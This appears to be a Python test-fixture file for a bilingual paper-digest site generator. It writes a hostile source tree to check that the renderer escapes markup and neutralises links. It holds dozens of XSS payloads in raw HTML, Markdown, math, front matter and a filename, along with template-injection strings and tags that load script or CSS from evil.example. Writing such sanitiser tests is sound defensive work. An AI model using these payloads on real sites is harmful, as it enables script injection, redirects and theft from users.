"""Digests written by somebody who means harm: known ways to run a script, or to break out of a page."""

from __future__ import annotations

FIRE = "alert(1)"
"""What a payload would call."""

RAW = {
    "script": "<script>alert(1)</script>",
    "script-broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-remote": "<script src=https://evil.example/x.js></script>",
    "img": "<img src=x onerror=alert(1)>",
    "img-slashes": "<img/src=x/onerror=alert(1)//>",
    "img-unclosed": '<img src=x onerror="alert(1)"',
    "img-quotes": '"><img src=x onerror=alert(1)>',
    "img-single-quotes": "'><img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style": "<style>body{display:none}</style>",
    "style-import": '<style>@import "https://evil.example/x.css";</style>',
    "style-attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</p>',
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "meta": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><button formaction=javascript:alert(1)>Go</button></form>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "media": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "link-element": '<a href="javascript:alert(1)">raw link</a>',
    "handler-on-harmless": "<b onmouseover=alert(1)>bold</b>",
    "class-on-harmless": '<b class="md-header" id="__config">bold</b>',
    "comment": "<!-- --><script>alert(1)</script> --!><img src=x onerror=alert(1)>",
    "comment-in-json": "--></script><script>alert(1)</script>",
    "cdata": "<![CDATA[><script>alert(1)</script>]]>",
    "processing": "<?xml version=1.0?><script>alert(1)</script>",
    "title-end": "</title><script>alert(1)</script>",
    "textarea-end": "</textarea></noscript></style></template><script>alert(1)</script>",
    "escape-block": "</p></div></article></main></div></body></html><script>alert(1)</script>",
    "mutation-math": '<math><table><mglyph><style><!--</style><i title="--&gt;&lt;img onerror=alert()&gt;">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-template": "<template><s><template><s><img onerror=alert(1)></s></template></s></template>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "unbalanced-harmless": "<b><i><sub>never closed</p></i>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-numbers": "&#60;img src=x onerror=alert(1)&#62;",
    "full-width": "＜script＞alert(1)＜/script＞",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7 + 7} <%= 7 + 7 %>",
    "slot": "@@paper-digest:head@@ @@root@@ wzxhzdk:0 \u0002wzxhzdk:0\u0003 klzzwxh:0001",
    "clobber": "<a id=__config name=document></a><img name=getElementById>",
}
"""Raw HTML, and what looks like the site's own machinery: shown as the text that it is."""

MARKDOWN = {
    "link": "[press link](javascript:alert(1))",
    "link-case": "[press case](JaVaScRiPt:alert(1))",
    "link-data": "[press data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-vbscript": "[press vbscript](vbscript:msgbox(1))",
    "link-file": "[press file](file:///etc/passwd)",
    "link-blob": "[press blob](blob:https://evil.example/x)",
    "link-angle": "[press angle](<javascript:alert(1)>)",
    "link-blank": "[press blank]( javascript:alert(1))",
    "link-tab": "[press tab](java\tscript:alert(1))",
    "link-newline": "[press newline](java\nscript:alert(1))",
    "link-control": "[press control](\x01javascript:alert(1))",
    "link-entities": "[press entities](&#106;avascript&colon;alert(1))",
    "link-entity-tab": "[press entity tab](java&Tab;script:alert(1))",
    "link-hexadecimal": "[press hexadecimal](&#x6A;&#x61;vascript:alert(1))",
    "link-percent": "[press percent](javascript%3Aalert(1))",
    "link-scheme-relative": "[press relative](//evil.example/x)",
    "link-backslash": "[press backslash](\\\\evil.example\\x)",
    "link-title": '[press title](https://arxiv.org/ "x\\" onmouseover=\\"alert(1)")',
    "link-title-single": "[press single](https://arxiv.org/ 'x' onmouseover='alert(1)')",
    "link-quote": '[press quote](https://arxiv.org/"onmouseover="alert(1))',
    "link-user": "[press user](https://arxiv.org@evil.example/)",
    "reference": "[press reference][r]\n\n[r]: javascript:alert(1)",
    "reference-title": '[press titled][t]\n\n[t]: https://arxiv.org/ "\\"><script>alert(1)</script>"',
    "autolink": "press auto <javascript:alert(1)> <data:text/html,x>",
    "autolink-mail": "press mail <alert(1)@evil.example>",
    "image": "![press image](javascript:alert(1))",
    "image-remote": "![press remote](https://evil.example/x.png)",
    "image-handler": '![press handler](x"onerror="alert(1))',
    "image-alt": '![press alt" onerror="alert(1)](https://arxiv.org/x.png)',
    "image-in-link": "[![press inner](data:image/svg+xml,x)](javascript:alert(1))",
    "attributes": "press attributes {: onclick=alert(1) style=color:red #__config .md-header}",
    "attributes-block": "press block\n{: #main .md-footer onclick=alert(1) }",
    "attributes-link": "[press styled](https://arxiv.org/){: onclick=alert(1) target=_top}",
    "attributes-pandoc": "press pandoc {#__search .md-toggle}",
    "html-in-markdown": "<div markdown onclick=alert(1)>press text *nested*</div>",
    "math-href": "press math $\\href{javascript:alert(1)}{x}$",
    "math-html": "press html $\\text{<img src=x onerror=alert(1)>}$ and $<script>alert(1)</script>$",
    "math-annotation": "press annotation $x\\class{md-header}{y}\\style{color:red}{z}\\htmlData{a=b}{c}$",
    "math-delimiters": "press delimiters \\(</math><script>alert(1)</script>\\) \\[x\\]",
    "math-url": "press url $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x}$",
    "table": "| press table | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [c](javascript:alert(1)) |",
    "list": "- press list <svg onload=alert(1)>\n- [x](javascript:alert(1))",
    "quote": "> press quote <iframe src=javascript:alert(1)>",
    "heading": "#### press heading <img src=x onerror=alert(1)> {: #main onclick=alert(1)}",
    "definition": "press definition\n:   <script>alert(1)</script>",
    "abbreviation": 'press abbreviation HTML\n\n*[HTML]: "><script>alert(1)</script>',
    "footnote": "press footnote[^1]\n\n[^1]: <script>alert(1)</script>",
    "bare-url": 'press bare https://arxiv.org/"onmouseover="alert(1)',
    "bare-url-html": "press bare https://arxiv.org/<script>alert(1)</script>",
    "bare-javascript": "press bare javascript:alert(1)",
    "nested-brackets": "[press outer [inner](javascript:alert(1))](https://arxiv.org/)",
}
"""Markdown: the words that begin with `press` stay readable, and what was a link leads nowhere bad."""

CODE = {
    "fenced": "```html\n<script>alert('code 1')</script>\n```",
    "fence-info": '```html" onclick="alert(1)\n<b>code 2</b>\n```',
    "fence-attributes": "```{.html onclick=alert(1) #main}\n<b>code 3</b>\n```",
    "inline": "so `<img src=x onerror=alert('code 4')>` reads",
    "indented": "text\n\n    <script>alert('code 5')</script>\n\ntext",
    "inline-attributes": "`#!html <b>code 6</b>` and `code 7`{: onclick=alert(1)}",
}
"""Code: shown literally."""

CODE_TEXTS = (
    "<script>alert('code 1')</script>",
    "<b>code 2</b>",
    "<b>code 3</b>",
    "<img src=x onerror=alert('code 4')>",
    "<script>alert('code 5')</script>",
    "<b>code 6</b>",
    "code 7",
)

IN_TITLES = (
    "script", "img", "img-quotes", "svg", "title-end", "comment-in-json", "escape-block",
    "template", "slot", "entities", "cdata", "handler-on-harmless", "unbalanced-harmless",
)  # fmt: skip


def paper_id(number: int) -> str:
    """The id of the paper that carries a payload."""
    return f"2504.{number:05d}"


def _block(number: int, title: str, chinese: str, body: str) -> str:
    return f"## {title}\n[{chinese}](https://arxiv.org/abs/{paper_id(number)})\n\n{body}\n"


def _bodies() -> str:
    payloads = [*RAW.values(), *MARKDOWN.values(), *CODE.values()]
    return "\n".join(
        _block(
            number, f"Carrier {number}", f"载体之{number}", f"前文 {number}。\n\n{payload}\n\n后文 {number}。"
        )
        for number, payload in enumerate(payloads, start=1)
    )


def _titles() -> str:
    return "\n".join(
        _block(500 + number, f"Title {number} {RAW[name]}", f"标题之{number} {RAW[name]}", f"正文 {number}。")
        for number, name in enumerate(IN_TITLES, start=1)
    )


def _fields() -> str:
    bad = '"><img src=x onerror=alert(1)>'
    return (
        _block(801, "Fields", "各种字段", "正文。").replace(
            "\n\n",
            f"\nAuthors: <script>alert(1)</script>, O{bad}\nVenue: {bad}</script><script>alert(1)</script>\n"
            f"Code: javascript:alert(1)\nProject: data:text/html,{bad}\nTags: {bad}\nTopics: {bad}\n"
            f"TL;DR: {bad}\nPDF: javascript:alert(1)\n\n",
            1,
        )
        + "\n## Link Line\n[坏链接](javascript:alert(1))\n\n链接行不是链接。\n"
        + f"\n## Link Line Two\n[坏链接之二](https://evil.example/{bad})\n\n链接行带引号。\n"
        + "\n## [Heading Link](javascript:alert(1))\n\n标题是坏链接。\n"
    )


OVERLAY = """---
paper: "2504.00001"
title_en: 'Overlay </title><script>alert(1)</script>'
authors: ['<svg onload=alert(1)>', '"><script>alert(1)</script>']
venue: '<img src=x onerror=alert(1)>'
code: ['javascript:alert(1)', 'https://evil.example/"onmouseover="alert(1)']
project: 'vbscript:x'
topics: ['agents', '<script>alert(1)</script>']
tldr_en: '[x](javascript:alert(1)) <img src=x onerror=alert(1)>'
---

English overlay <script>alert(1)</script> [press overlay](javascript:alert(1))
"""

GLOSSARY = """terms:
  - {english: '"><img src=x onerror=alert(1)>', abbreviation: '" onfocus="alert(1)', chinese: [前文]}
  - {english: Overlay, chinese: ['"><script>alert(1)</script>坏']}
"""
"""Terms that stand in every body, so that their marks are on every page."""

FRONT_MATTER = """---
title: '<img src=x onerror=alert(1)> </title> Digest'
introduction: 'Introduction <script>alert(1)</script> [press introduction](javascript:alert(1))'
introduction_zh: '导语 <svg onload=alert(1)> {: onclick=alert(1)}'
---
"""

BAD_NAME = "x<img src=x onerror=alert(1)>&amp;'"
HARMLESS = "harmless"

FILES: dict[str, str | bytes] = {
    "site_src/topics.yml": (
        "topics:\n  - slug: agents\n    name: {en: Agents, zh: 智能体}\n"
        "    description: {en: They act., zh: 会行动。}\n    phrases: {20: [carrier / 载体]}\n"
    ),
    "site_src/glossary.yml": GLOSSARY,
    "site_src/papers/2504.00001.md": OVERLAY,
    "site_src/digests/2025/0331-0404.md": _bodies(),
    "site_src/digests/2025/0407-0411.md": FRONT_MATTER + _titles() + "\n" + _fields(),
    f"site_src/digests/{BAD_NAME}.md": "## Harmless\n[无害](https://example.org/harmless)\n\n一段正常的正文。\n",
    "site_src/digests/2025/0414-0418.md": _block(9001, "Harmless Too", "也无害", "一段正常的正文。"),
}
